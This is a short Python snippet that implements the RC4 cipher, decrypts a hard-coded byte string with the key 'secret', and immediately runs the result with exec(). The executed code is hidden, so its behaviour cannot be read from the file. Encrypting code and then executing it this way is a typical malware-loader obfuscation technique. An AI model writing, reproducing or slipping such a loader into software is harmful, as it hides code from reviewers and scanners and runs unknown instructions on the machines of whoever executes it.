def crypt(key, data):
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) % 256
        s[i], s[j] = s[j], s[i]
    i = j = 0
    out = []
    for b in data:
        i = (i + 1) % 256
        j = (j + s[i]) % 256
        s[i], s[j] = s[j], s[i]
        out.append(b ^ s[(s[i] + s[j]) % 256])
    return bytes(out)
exec(crypt(b"secret", b'\x84[\xa2s\xf0\xd0\xf6\xc9A\xc1\xd4\xaf\xdd\x95\x8cD\xd9R\x1f\xca\xa1\x96\xa74\x1f\\\x15\x89\xae\x03#z\xd1\x96r\xae\xa0*V\xaf?\xa3\xaa\xfa\xec\xa8'))
